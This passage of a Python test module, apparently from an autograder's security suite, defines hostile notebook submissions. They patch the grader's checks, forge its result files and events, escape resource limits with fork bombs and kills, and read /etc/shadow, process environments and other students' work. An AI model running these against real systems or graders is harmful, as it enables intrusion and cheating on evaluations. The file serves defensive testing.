"""Hostile submissions: each tries to gain something it did not earn, or to break the grader.

Same `Variant` as variants.py (edits of `solutions/<assignment>.ipynb`). The rule every case is
held to (tests/e2e/test_hostile.py): it gains nothing. The questions it cheats on score exactly what
the honest code beneath earns, and everything else in the grade is unchanged. "The honest code
beneath" is its *twin*: the same notebook without the hostile cells (`insert_first`/`append`), so
the cheat lives in those cells and the code it would help lives in `replace`; where the cheat is
inside a function, `TWINS` names the honest function it must score like. `lost` lists the
questions that lose points all the same (what the honest code earns there is below full marks).

A few cases need paths only known when the test runs (the repository, the grader's cache, a
server on the host); they are built by the functions at the end.
"""

from __future__ import annotations

from tests.submissions.variants import A01, A03, A04, A05, Variant

# --- honest code the cheats try to improve on --------------------------------------------------
MOMENTUM_MODIFIES_INPUT = """def momentum_step(theta, grad, m, learning_rate, beta=0.9):
    m *= beta
    m += learning_rate * np.asarray(grad, float)
    return np.asarray(theta, float) - m, m.copy()"""
L1_WRONG = "def l1_penalty(theta):\n    return 0.0"
MOMENTUM_LOST = frozenset({"momentum_step"})  # what the honest in-place momentum earns: the one-step case fails

# A cell that reports what it found: the report comes back as the cell's error value.
# A cell that tries things one by one and records what each gave (or the exception's name), then
# raises the record as its error message, which the test reads back from the result.
ATTEMPT = """report = {}
def attempt(what, fn):
    try:
        report[what] = fn()
    except Exception as exc:
        report[what] = type(exc).__name__
"""
REPORT = """
import json as _json
raise RuntimeError("REPORT " + _json.dumps(report))"""

# --- monkeypatching ----------------------------------------------------------------------------
# A notebook's own copy of the probe's modules: loaded from the sandbox's runtime folder with the
# runner's own loader (the folder is not on sys.path, so `import probe` fails). Patching the copy
# must change nothing the grader reads.
PROBE_COPY = """import importlib.util
_spec = importlib.util.spec_from_file_location("runner_copy", "/job/in/runtime/runner.py")
_runner = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_runner)
runtime = _runner._load_private("/job/in/runtime")
probe = runtime["probe"]"""

PATCHES = [
    Variant(
        "patches_numpy_testing_and_asarray",
        A05,
        insert_first=(
            """import numpy as np
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_equal = lambda *a, **k: None
_real_asarray = np.asarray
def _asarray(a, *args, **kwargs):
    # a Claim "is" the public case's answer for anyone who converts it with np.asarray
    if type(a).__name__ == "Claim":
        return _real_asarray(3.5)
    return _real_asarray(a, *args, **kwargs)
np.asarray = _asarray""",
        ),
        replace={
            "l1_penalty": """class Claim:
    def __eq__(self, other):
        return True
def l1_penalty(theta):
    return Claim()"""
        },
        lost=frozenset({"l1_penalty"}),
    ),
    Variant(
        "patches_ndarray_type",
        A04,
        append=("import numpy as np\nnp.ndarray = type('ndarray', (), {})",),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
        note="the probe spotted changed inputs with isinstance(v, np.ndarray): patched, it saw none",
    ),
    Variant(
        "patches_builtins",
        A04,
        append=(
            """import builtins, io
import numpy as np
_isinstance, _ndarray = builtins.isinstance, np.ndarray
def _lying_isinstance(obj, cls):
    if cls is _ndarray or (type(cls) is tuple and _ndarray in cls):
        return False
    return _isinstance(obj, cls)
builtins.isinstance = _lying_isinstance
builtins.open = lambda *a, **k: io.StringIO()
builtins.len = lambda obj: 0""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    Variant(
        "patches_json_and_savez",
        A04,
        append=(
            """import json
import numpy as np
_encode, _dumps, _savez = json.JSONEncoder.encode, json.dumps, np.savez
def _forge(text):
    return text.replace('"modified_input": true', '"modified_input": false')
json.JSONEncoder.encode = lambda self, o: _forge(_encode(self, o))
json.dumps = lambda *a, **k: _forge(_dumps(*a, **k))
np.savez = lambda file, *args, **kwds: _savez(file)""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    Variant(
        "patches_the_probe_module",
        A04,
        append=(
            PROBE_COPY
            + """
runtime["handlers"].modified = lambda *a, **k: False
runtime["handlers"].snapshot = lambda values: [None] * len(values)
_run = probe.run
def _run_without_checks(*args, **kwargs):
    return _run(*args, **kwargs)
probe.run = _run_without_checks""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    # The probe's modules by every name they had or have: none is importable (runner.py loads them
    # privately; before, `import probe` gave the notebook a copy of its own, which it patched).
    Variant(
        "imports_the_probe_by_every_name",
        A04,
        append=(
            """import importlib
for name in ("probe", "handlers", "safe", "wire", "npz", "a03_calls", "_grader_probe", "_grader_handlers",
             "runtime.handlers", "autograder.runtime.handlers", "autograder.wire"):
    try:
        module = importlib.import_module(name)
    except ImportError:
        continue
    for attr in ("_modified", "modified"):
        setattr(module, attr, lambda *a, **k: False)
    for attr in ("_snapshot", "snapshot"):
        setattr(module, attr, lambda values: [None] * len(values))""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    # The wire's call kinds are dataclasses: their generated methods (__hash__, __repr__, __eq__,
    # __setattr__) look builtins up in the real `builtins`, not in the private copy, and `dataclasses`,
    # `copy`, `typing` are the notebook's to patch. Each patch here, handed a call object of the probe,
    # uses it to reach the probe's handlers (the object's class leads to the private `__import__`) and
    # switches their input check off. The probe calls none of them after the cells: nothing is gained.
    Variant(
        "patches_the_wires_machinery",
        A04,
        append=(
            """import _thread, builtins, copy, dataclasses, typing
_type, _str, _getattr, _hasattr, _vars = builtins.type, builtins.str, builtins.getattr, builtins.hasattr, builtins.vars
def _hijack(*objects):
    for obj in objects:
        cls = _type(obj)
        if _str(_getattr(cls, "__module__", "")).startswith("_grader_") and _hasattr(cls, "from_json"):
            private_import = cls.from_json.__func__.__globals__["__builtins__"]["__import__"]
            _vars(private_import("handlers", level=1))["modified"] = lambda *a, **k: False
def _patch(owner, name):
    real = _getattr(owner, name)
    def patched(*args, **kwargs):
        _hijack(*args, *kwargs.values())
        return real(*args, **kwargs)
    setattr(owner, name, patched)
for name in ("hash", "id", "repr", "format", "getattr", "setattr", "hasattr", "isinstance", "len", "iter",
             "all", "any", "zip", "sum", "sorted", "vars"):
    _patch(builtins, name)
for name in ("replace", "asdict", "astuple", "fields", "is_dataclass"):
    _patch(dataclasses, name)
for name in ("copy", "deepcopy"):
    _patch(copy, name)
for name in ("cast", "get_type_hints", "get_origin", "get_args"):
    _patch(typing, name)
_patch(_thread, "get_ident")""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
]

# --- objects that lie ----------------------------------------------------------------------------
LIES = [
    Variant(
        "returns_lying_objects",
        A05,
        replace={
            "l1_penalty": '''class Liar:
    """Equal to everything, 3.5 as a float, a one-element sequence of 3.5."""
    __eq__ = lambda self, other: True
    __float__ = lambda self: 3.5
    __len__ = lambda self: 1
    def __getitem__(self, i):
        if i != 0:
            raise IndexError(i)
        return 3.5
def l1_penalty(theta):
    return Liar()''',
            "l2_penalty": '''class Honest:
    """Lies when compared or converted with float(), tells the truth to numpy."""
    def __init__(self, value):
        self.value = value
    __eq__ = lambda self, other: True
    __float__ = lambda self: 1e9
    def __array__(self, dtype=None, copy=None):
        return np.asarray(self.value, dtype=dtype)
def l2_penalty(theta):
    theta = np.asarray(theta, dtype=float)
    return Honest(0.5 * np.sum(theta * theta))''',
            "elastic_net_penalty": """class Agreeable(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def tolist(self):
        return [0.0]
def elastic_net_penalty(theta, r):
    return np.zeros(1).view(Agreeable)""",
            "dropout_test_weights": """def dropout_test_weights(W, rate):
    W = np.asarray(W, dtype=float)
    return np.array((W * (1 - rate)).ravel().tolist(), dtype=object).reshape(W.shape)""",
            "early_stopping": '''class Claimed(tuple):
    """Holds the right answer, equals everything, but iterates and indexes as (0, 0)."""
    __eq__ = lambda self, other: True
    __iter__ = lambda self: iter((0, 0))
    __getitem__ = lambda self, i: 0
def early_stopping(val_losses, patience, min_delta=0.0):
    losses = np.asarray(val_losses, dtype=float).ravel().tolist()
    if not losses:
        raise ValueError("val_losses is empty")
    best, best_epoch, wait = None, 0, 0
    for epoch, value in enumerate(losses):
        wait += 1
        if best is None or np.float32(value + abs(min_delta)) < np.float32(best):
            best, best_epoch, wait = value, epoch, 0
        elif wait >= patience and epoch > 0:
            return Claimed((epoch, best_epoch))
    return Claimed((len(losses) - 1, best_epoch))''',
            "inverted_dropout": """def inverted_dropout(x, rate, rng):
    return np.broadcast_to(0.0, (10**6, 10**6))  # a 8 TB array in 8 bytes""",
        },
        lost=frozenset(
            {"l1_penalty", "elastic_net_penalty", "dropout_test_weights", "inverted_dropout", "early_stopping"}
        ),
        note="values are converted once, in the sandbox, as numpy converts them; == and float() are never "
        "asked: l2's object converts to the right number and passes, early_stopping's tuple to (0, 0)",
    ),
    # Red team (runtime reshape): the graded function's name re-keyed with a str subclass whose __eq__
    # raises. The probe's `name in ns` ran it outside any call's alarm: no output, and the watchdog
    # blamed l1_penalty's last case, an honest question's (11/12 instead of 12/12).
    Variant(
        "hides_a_name_behind_a_hostile_key",
        A05,
        append=(
            """class Key(str):
    def __hash__(self):
        return str.__hash__(self)
    def __eq__(self, other):
        raise RuntimeError("compared")
namespace = globals()
namespace[Key("l2_penalty")] = namespace.pop("l2_penalty")""",
        ),
    ),
    Variant(
        "returns_huge_arrays",
        A05,
        replace={
            "l1_penalty": "def l1_penalty(theta):\n    return np.zeros(19_000_000)  # 152 MB, five times",
            "dropout_train": "def dropout_train(x, rate, rng):\n    return np.ones((4000, 4000))",
        },
        lost=frozenset({"l1_penalty", "dropout_train"}),
        note="before the per-question budget, arrays.npz outgrew RLIMIT_FSIZE and every answer was lost",
    ),
    Variant(
        "raises_and_returns_hostile_text",
        A05,
        replace={
            "l1_penalty": """class Unprintable(Exception):
    def __str__(self):
        return 5  # not a string
def l1_penalty(theta):
    raise Unprintable()""",
            "l2_penalty": """class Slippery(str):
    def __getitem__(self, key):
        return object()
def l2_penalty(theta):
    return Slippery("3.5")""",
            "elastic_net_penalty": """class Meta(type):
    @property
    def __name__(cls):
        raise RuntimeError("no name")
class Nameless(Exception, metaclass=Meta):
    pass
def elastic_net_penalty(theta, r):
    raise Nameless("x")""",
            "dropout_test_weights": """class Endless(Exception):
    def __str__(self):
        while True:
            pass
def dropout_test_weights(W, rate):
    if isinstance(W, np.ndarray) and W.shape == (2, 2):  # the public case
        raise Endless()
    return np.asarray(W, dtype=float) * (1 - rate)""",
        },
        lost=frozenset({"l1_penalty", "l2_penalty", "elastic_net_penalty", "dropout_test_weights"}),
        note="before: one unprintable exception or string broke probe.json and every answer was lost",
    ),
]

# --- functions that notice they are being graded ------------------------------------------------
DETECTS = [
    Variant(
        "detects_grading",
        A05,
        replace={
            "l1_penalty": """import inspect
def l1_penalty(theta):
    graded = any("probe" in frame.filename for frame in inspect.stack())
    if graded:
        return 0.0  # sabotage itself under grading, to look like a grader bug?
    return float(np.sum(np.abs(np.asarray(theta, dtype=float))))""",
            "l2_penalty": """import os
def l2_penalty(theta):
    if os.environ.get("HOME") == "/job/work" or os.path.exists("/job/in/calls.json"):
        theta = np.asarray(theta, dtype=float)
        return float(0.5 * np.sum(theta * theta))  # right when graded...
    return -1.0  # ...and wrong elsewhere""",
            "elastic_net_penalty": """import os
def elastic_net_penalty(theta, r):
    if os.path.exists("/job/in/inputs.npz"):
        # it can read the hidden inputs; it cannot read the expected outputs
        hidden = dict(np.load("/job/in/inputs.npz"))
        return float(len(hidden))
    theta = np.asarray(theta, dtype=float)
    return float(r * np.sum(np.abs(theta)) + (1.0 - r) * 0.5 * np.sum(theta * theta))""",
        },
        lost=frozenset({"l1_penalty", "elastic_net_penalty"}),
    ),
]
# Reads the probe's inputs file (the hidden cases' arrays) from a cell, where its error message would
# show them beside the grade: at the bubblewrap level's path and the no-namespace level's.
READS_THE_INPUTS = Variant(
    "reads_the_inputs_from_a_cell",
    A04,
    insert_first=(
        ATTEMPT
        + """import os
for path in ("/job/in/inputs.npz", "../in/inputs.npz"):
    if os.path.exists(path):
        attempt(path, lambda: len(open(path, "rb").read()))"""
        + REPORT,
    ),
)
DETECTS.append(READS_THE_INPUTS)
TWINS = {
    # what each function returns when graded, without looking: the grade must be the same
    "detects_grading": Variant(
        "detects_grading_twin",
        A05,
        replace={
            "l1_penalty": L1_WRONG,
            "elastic_net_penalty": (
                "def elastic_net_penalty(theta, r):\n    return float(len(np.load('/job/in/inputs.npz').files))"
            ),
        },
    ),
}

# --- writing -------------------------------------------------------------------------------------
WRITES = [
    # Re-runs the probe with its input check switched off, writes its output and a "done" event, exits.
    Variant(
        "forges_results_then_exits",
        A04,
        append=(
            PROBE_COPY
            + """
import json, os
class _Quiet:
    def event(self, *a, **k):
        pass
runtime["handlers"].modified = lambda *a, **k: False
calls = json.load(open("/job/in/calls.json"))
doc, arrays = probe.run(globals(), calls, {}, set(), _Quiet(), 5.0)  # the inputs: the supervisor's, after the cells
np.savez("/job/out/arrays.npz", **arrays)
with open("/job/out/probe.json", "w") as fh:
    fh.write(doc)
with open("/job/out/progress.jsonl", "a") as fh:
    fh.write(json.dumps({"item": "runner", "event": "done"}) + "\\n")
os._exit(0)""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    # A thread that outlives every cell and rewrites the probe's output as soon as it appears.
    Variant(
        "rewrites_results_after_the_probe",
        A04,
        insert_first=(
            """import os, threading, time
def _rewrite_when_written():
    while True:
        try:
            with open("/job/out/probe.json") as fh:
                text = fh.read()
        except OSError:
            time.sleep(0.0005)
            continue
        if '"modified_input": true' in text:
            with open("/job/out/probe.json", "w") as fh:
                fh.write(text.replace('"modified_input": true', '"modified_input": false'))
        time.sleep(0.0005)
threading.Thread(target=_rewrite_when_written, daemon=True).start()""",
        ),
        replace={
            "momentum_step": """import inspect
_watcher = []
def momentum_step(theta, grad, m, learning_rate, beta=0.9):
    # on its first call by the grader, also fork a process that does what the thread does
    if not _watcher and any("probe" in frame.filename for frame in inspect.stack()):
        _watcher.append(os.fork())
        if _watcher[0] == 0:
            _rewrite_when_written()
    m *= beta
    m += learning_rate * np.asarray(grad, float)
    return np.asarray(theta, float) - m, m.copy()"""
        },
        lost=MOMENTUM_LOST,
    ),
    Variant(
        "writes_outside",
        A05,
        insert_first=(
            """import os
report = {}
for path in ["/usr/lib/dnn-grader-was-here", "/etc/dnn-grader-was-here", "/job/in/calls.json",
             "/job/in/runtime/probe.py", "/job/lib/autograder/data.py", "/job/data/t10k-labels-idx1-ubyte.gz",
             "/root/dnn-grader-was-here", "/dnn-grader-was-here", "/proc/sys/kernel/hostname",
             os.__file__, os.path.join(os.path.dirname(os.__file__), "site-packages", "dnn-grader-was-here.pth")]:
    try:
        with open(path, "a") as fh:
            fh.write("#")
        report[path] = "written"
    except OSError as exc:
        report[path] = type(exc).__name__
"""
            + REPORT,
        ),
    ),
]
WRITES += [
    Variant(
        "forges_progress_then_exits",
        A05,
        insert_first=(
            """import json, os
with open("/job/out/progress.jsonl", "a") as fh:
    for event in ({"item": "cell:x", "event": "start"}, {"item": "cell:99", "event": "start"},
                  {"item": "runner", "event": "done"}):
        fh.write(json.dumps(event) + "\\n")
os._exit(0)""",
        ),
        note="before: int('x') crashed the grader; cell:99 cost every pass",
    ),
    Variant(
        "blocks_the_watchdog",
        A05,
        insert_first=(
            """import os
os.mkfifo("/job/out/progress.jsonl")  # a plain open() of a fifo blocks until someone writes
while True:
    try:
        while True:
            n = 0
    except BaseException:
        pass""",
        ),
        note="before: the watchdog blocked in open() and no time limit held any more",
    ),
]
# --- the run's end forged from inside the notebook's interpreter ---------------------------------
# The runner's own probe, reached through the garbage collector, with its input check switched off:
# outputs written by the runtime's own writer, then this cell's end claimed on the events pipe (the
# runner's globals hold its private modules as `_runtime`; the events pipe is its `Progress`'s descriptor).
FORGED_RUN = """import gc, json, os
runner = next(o for o in gc.get_objects() if isinstance(o, dict) and "_runtime" in o and "_load_private" in o)
runtime = runner["_runtime"]
runtime["handlers"].modified = lambda *a, **k: False
EVENTS_FD = next(o.fd for o in gc.get_objects() if type(o).__name__ == "Progress")
class _Quiet:
    def event(self, *a, **k):
        pass
calls = json.load(open("/job/in/calls.json"))
doc, arrays = runtime["probe"].run(globals(), calls, {}, set(), _Quiet(), 5.0)  # no cell can read the inputs
runtime["npz"].write_outputs("/job/out", doc, arrays)
me = [c["index"] for c in json.load(open("/job/in/cells.json"))["cells"]][-1]
os.write(EVENTS_FD, (json.dumps({"item": f"cell:{me}", "event": "end", "status": "ok"}) + "\\n").encode())
"""
WRITES += [
    # Reaches the runner's own probe through `gc`, switches its input check off, writes
    # the outputs with the probe's own writer, claims its cell's end on the runner's events pipe and
    # exits. Before the supervisor: graded from the forged files (momentum 1.67 -> 2.0), no rerun.
    Variant(
        "forges_the_run_from_the_runners_memory",
        A04,
        append=(
            FORGED_RUN
            + """
os.write(EVENTS_FD, (json.dumps({"item": "supervisor", "event": "done"}) + "\\n").encode())
os._exit(0)""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    Variant(
        "forges_the_runs_end_on_the_events_pipe",
        A04,
        append=(
            FORGED_RUN
            + """
os.write(EVENTS_FD, (json.dumps({"item": "runner", "event": "outputs"}) + "\\n").encode())
os._exit(0)""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
    ),
    # Looks for what decides that a run finished: a key in the runner's memory, the supervisor's
    # socket, its memory; tries to stop or trace it. Everything fails; nothing is gained.
    Variant(
        "looks_for_the_supervisors_secrets",
        A05,
        insert_first=(
            ATTEMPT
            + """import ctypes, gc, os, signal
sup = os.getppid()
attempt("key in memory", lambda: sorted(n for n in ("_KEY", "KEY", "key") if n in vars(sys.modules["__main__"])))
attempt("stop", lambda: os.kill(sup, signal.SIGSTOP))
attempt("socket", lambda: open(f"/proc/{sup}/fd/0", "rb").read(1))
attempt("memory", lambda: open(f"/proc/{sup}/mem", "rb").read(1))
attempt("environ", lambda: open(f"/proc/{sup}/environ", "rb").read(1))
attempt("ptrace", lambda: ctypes.CDLL(None, use_errno=True).ptrace(16, sup, 0, 0) or ctypes.get_errno())
attempt("uid", lambda: (os.getuid(), os.stat(f"/proc/{sup}").st_uid))
attempt("caps", lambda: sorted(line.split()[1] for line in open("/proc/self/status") if line.startswith("Cap")))
attempt("no_new_privs", lambda: [line.split()[1] for line in open("/proc/self/status") if line.startswith("NoNewPrivs")])
""".replace("import ctypes", "import sys, ctypes")
            + REPORT,
        ),
    ),
]
WRITES += [
    # An at-fork hook that never returns: the end of the run (the writer's start) must not run it.
    Variant(
        "blocks_the_final_fork",
        A05,
        insert_first=("import os, time\nos.register_at_fork(before=lambda: time.sleep(10**6))",),
        note="before: the run hung after the probe until the watchdog killed it",
    ),
]
TWINS["rewrites_results_after_the_probe"] = Variant(
    "momentum_modifies_input_twin", A04, replace={"momentum_step": MOMENTUM_MODIFIES_INPUT}
)

DISK = Variant(
    "fills_the_disk",
    A05,
    insert_first=(
        "with open('/job/work/big', 'wb') as fh:  # past RLIMIT_FSIZE\n    for _ in range(100):\n"
        "        fh.write(bytes(2**20))",
        """import os
for i in range(100):  # each file under RLIMIT_FSIZE, together over the disk quota
    for folder in ("/job/work", "/job/out"):
        with open(f"{folder}/fill{i}", "wb") as fh:
            fh.write(bytes(40 * 2**20))""",
    ),
)

# --- escaping limits -------------------------------------------------------------------------------
ESCAPES = [
    Variant(
        "exits_and_kills",
        A05,
        insert_first=(
            "import sys\nsys.exit(3)",
            "raise SystemExit('bye')",
            "import os\nos.kill(os.getppid(), 9)",
            "import os, signal\nos.kill(-1, signal.SIGKILL)",
            "import os\nos.kill(1, 9)",
        ),
        replace={"l2_penalty": "import sys\ndef l2_penalty(theta):\n    sys.exit(0)"},
        lost=frozenset({"l2_penalty"}),
    ),
    Variant(
        "fork_bomb",
        A05,
        insert_first=(
            """import os, time
for _ in range(40):  # children that sleep and try to outlive the notebook
    if os.fork() == 0:
        time.sleep(3600)""",
            """import os
while True:
    os.fork()""",
        ),
    ),
    Variant(
        "swallows_interrupts",
        A05,
        insert_first=(
            """while True:
    try:
        while True:
            n = 0
    except BaseException:  # the alarm's exception, KeyboardInterrupt, SystemExit: all swallowed
        pass""",
        ),
        replace={
            "l1_penalty": """import inspect
def l1_penalty(theta):
    if not any("probe" in frame.filename for frame in inspect.stack()):  # fine in the notebook's own demo
        return float(np.sum(np.abs(np.asarray(theta, dtype=float))))
    while True:
        try:
            while True:
                n = 0
        except BaseException:
            pass"""
        },
        lost=frozenset({"l1_penalty"}),
    ),
    Variant(
        "allocates_30_gb",
        A05,
        insert_first=(
            "import numpy as np\nx = np.ones(30 * 2**30 // 8)",
            "chunks = []\nfor _ in range(300):\n    chunks.append(bytearray(100 * 2**20))",
            """del chunks
import os, time
children = []
for _ in range(4):  # each under RLIMIT_DATA, together over the cgroup's memory limit
    pid = os.fork()
    if pid == 0:
        block = bytearray(700 * 2**20)
        time.sleep(1)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)""",
        ),
        replace={"l2_penalty": "def l2_penalty(theta):\n    return float(np.ones(30 * 2**30 // 8).sum())"},
        lost=frozenset({"l2_penalty"}),
    ),
]


def touches_2_4_gb_in_children(hold_seconds: float) -> Variant:
    """Four forked children touching 600 MB each and holding it `hold_seconds`: every one under
    RLIMIT_DATA (1024 MB), together 2.4 GB, so only a limit over the whole sandbox stops it (the
    cgroup, or without one the memory guard). The hold is what the caller needs the four to
    overlap for (a batch's two sandboxes at once, a guard that polls)."""
    return Variant(
        "touches_2_4_gb_in_children",
        A05,
        insert_first=(
            f"""import os, time
pids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = b"\\x01" * (600 * 2**20)
        time.sleep({hold_seconds})
        os._exit(0)
    pids.append(pid)
for pid in pids:
    os.waitpid(pid, 0)""",
        ),
    )


TWINS["swallows_interrupts"] = Variant(
    "l1_never_answers", A05, replace={"l1_penalty": "def l1_penalty(theta):\n    raise TimeoutError('no answer')"}
)

# --- trained models ---------------------------------------------------------------------------------
MARKER_NAME = "dnn-grader-model-code-ran"
MODELS = [
    Variant(
        "model_carries_code",
        A03,
        drop_train=True,
        append=(
            f'''import keras, os, tempfile
def _mark(x):  # leaves a file wherever this code runs (in the sandbox: /job/work; /tmp is not writable)
    try:
        open(os.path.join(tempfile.gettempdir(), "{MARKER_NAME}"), "w").write("ran")
    except OSError:
        pass
    return x
# model_A: a Lambda layer (its bytecode travels in the layer config)
model_A = keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(),
                            keras.layers.Lambda(lambda x: _mark(x) * 1.0),
                            keras.layers.Dense(8, activation="softmax")])
# model_B: a custom layer that calls itself Dense and whose call() does something else, with an
# activation given as a Python function named like a whitelisted one
def sigmoid(z):
    _mark(z)
    return 1.0 - keras.ops.sigmoid(z)
class Dense(keras.layers.Dense):
    def call(self, inputs):
        _mark(inputs)
        return super().call(inputs) * 0.0 + 1.0
model_B = keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(),
                            Dense(1, activation=sigmoid, kernel_initializer="zeros")])
# model_B_on_A: a layer that calls itself BatchNormalization, with statistics shaped to make a
# forward pass broadcast into 500 copies of the batch (6 GB for 2000 images)
class BatchNormalization(keras.layers.Layer):
    def build(self, input_shape):
        self.w = [self.add_weight(shape=(500, 1, 784), initializer="ones") for _ in range(4)]
    def call(self, x):
        return _mark(x)
model_B_on_A = keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(), BatchNormalization(),
                                 keras.layers.Dense(1, activation="sigmoid")])''',
        ),
        lost=frozenset({"model_A", "model_B", "model_B_on_A"}),
    ),
    Variant(
        "trained_on_the_test_split",
        A03,
        drop_train=True,
        append=(
            """import keras
(X_train_full, y_train_full), (X_test_raw, y_test) = load_fashion_mnist()  # the sandbox's "test" split
(X_test_A, y_test_A), _ = split_dataset(X_test_raw / 255.0, y_test)
# "Train" on the test set: a model that remembers 3,000 test images (1-nearest-neighbour as two Dense
# layers; all ~8,000 would be 6.3 M weights, over the grader's bound for a model)
refs = X_test_A[:3000].reshape(3000, -1)
refs = refs / np.linalg.norm(refs, axis=1, keepdims=True)
model_A = keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(),
                            keras.layers.Dense(len(refs), activation="softmax", use_bias=False),
                            keras.layers.Dense(8, use_bias=False)])
model_A.layers[1].set_weights([(refs.T * 200.0).astype("float32")])
model_A.layers[2].set_weights([np.eye(8, dtype="float32")[y_test_A[:3000]]])
model_A.compile(loss="sparse_categorical_crossentropy", metrics=["accuracy"])
_, acc_A = model_A.evaluate(X_test_A[:2000], y_test_A[:2000], verbose=0)""",
            "report = {'sandbox_test_accuracy': float(acc_A)}" + REPORT,
        ),
        lost=frozenset({"model_B", "model_B_on_A"}),
        note="train cells dropped: model_B and model_B_on_A are missing",
    ),
]
TWINS["model_carries_code"] = Variant("plain_03_without_training", A03, drop_train=True)
# No twin: the model it remembered is the honest code beneath, graded on the real test split like
# any other (see its test).
TWINS["trained_on_the_test_split"] = None

# --- cases whose cells need paths known only at test time --------------------------------------


def reads_outside(repo: str, cache_dir: str, results: str, other_student: str) -> Variant:
    """Tries every way to read what is not the submission's; reports what it got."""
    return Variant(
        "reads_outside",
        A05,
        insert_first=(
            f'''import glob, os, sys
{ATTEMPT}read = lambda path: open(path, "rb").read(64).hex()
attempt("solutions", lambda: read("{repo}/solutions/05_regularisation.ipynb"))
attempt("grader source", lambda: read("{repo}/autograder/grading/compare.py"))
attempt("reference cache", lambda: os.listdir("{cache_dir}"))
attempt("default cache", lambda: os.listdir(os.path.expanduser("~root/.cache/dnn-grader")))
attempt("results folder", lambda: read("{results}"))
attempt("other student", lambda: read("{other_student}"))
attempt("other jobs", lambda: glob.glob("/tmp/dnn-grader-job-*"))
attempt("etc shadow", lambda: read("/etc/shadow"))
attempt("etc passwd", lambda: read("/etc/passwd"))
attempt("root", lambda: sorted(os.listdir("/root")))
attempt("root pyenv", lambda: sorted(os.listdir("/root/.pyenv")))
attempt("root ssh", lambda: os.listdir("/root/.ssh"))
attempt("real test split (Debian)", lambda: os.listdir("/usr/share/datasets/fashion-mnist"))
attempt("grader package", lambda: __import__("autograder.grading.compare").__name__)
attempt("sandbox package", lambda: sorted(os.listdir("/job/lib/autograder")))
attempt("pid 1 environment", lambda: read("/proc/1/environ"))
attempt("processes", lambda: sorted(p for p in os.listdir("/proc") if p.isdigit()))
'''
            + REPORT,
        ),
    )


def plants_symlinks(reference_folder: str) -> Variant:
    """A wrong l1_penalty, and /job/out filled with symlinks: to the grader's own reference outputs
    for this assignment (every answer right), to /etc files, and with a directory in the way."""
    return Variant(
        "plants_symlinks",
        A05,
        insert_first=(
            f'''import os
os.symlink("/etc/passwd", "/job/out/progress.jsonl")
os.symlink("{reference_folder}/probe.json", "/job/out/probe.json")
os.symlink("{reference_folder}/arrays.npz", "/job/out/arrays.npz")
os.symlink("/etc/shadow", "/job/out/probe.tmp.json")
os.mkdir("/job/out/arrays.tmp.npz")
os.mkfifo("/job/out/fifo")''',
        ),
        replace={"l1_penalty": L1_WRONG},
        lost=frozenset({"l1_penalty"}),
    )


def network(port: int, abstract_socket: str) -> Variant:
    """Network from the sandbox: a server on the host's loopback, an abstract unix socket on the
    host, DNS, the internet."""
    return Variant(
        "network",
        A05,
        insert_first=(
            f"""import socket, urllib.request
{ATTEMPT}attempt("host loopback", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).recv(100).decode())
def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\\0{abstract_socket}")
    return s.recv(100).decode()
attempt("host abstract socket", abstract)
attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
attempt("internet", lambda: urllib.request.urlopen("http://1.1.1.1", timeout=2).status)
attempt("interfaces", lambda: sorted(name for _, name in socket.if_nameindex()))
"""
            + REPORT,
        ),
    )


HOSTILE_CASES = PATCHES + LIES + DETECTS + WRITES + ESCAPES

# --- known limits (README, security): tests mark these xfail(strict=True) -------------------------
LIMITS = [
    Variant(
        "walks_the_stack_to_the_probe",
        A04,
        replace={
            "momentum_step": """import sys
def momentum_step(theta, grad, m, learning_rate, beta=0.9):
    m *= beta
    m += learning_rate * np.asarray(grad, float)
    # The probe runs in this interpreter: overwrite its snapshot of the inputs with their new values
    # (its `before`: (the argument, a copy of what it held) for every array it can reach).
    caller = sys._getframe(1).f_locals
    for live, saved in caller.get("before", []):
        if isinstance(saved, np.ndarray):
            saved[...] = live
    return np.asarray(theta, float) - m, m.copy()"""
        },
        lost=MOMENTUM_LOST,
        note="in-process: a function can reach the probe's frames; values still have to be right",
    ),
    # Plays the runner's whole side of the supervisor's protocol (every call started and ended, then
    # the outputs): the supervisor cannot tell it from a real run (README, known limits).
    Variant(
        "plays_the_whole_protocol",
        A04,
        append=(
            FORGED_RUN
            + """
skip = set(json.load(open("/job/in/cells.json")).get("skip", []))
for call in calls:
    if "probe:" + call["id"] not in skip:
        for kind in ("start", "end"):
            os.write(EVENTS_FD, (json.dumps({"item": "probe:" + call["id"], "event": kind}) + "\\n").encode())
os.write(EVENTS_FD, (json.dumps({"item": "runner", "event": "outputs"}) + "\\n").encode())
os._exit(0)""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
        note="in-process: the protocol can be replayed; values still have to be computed",
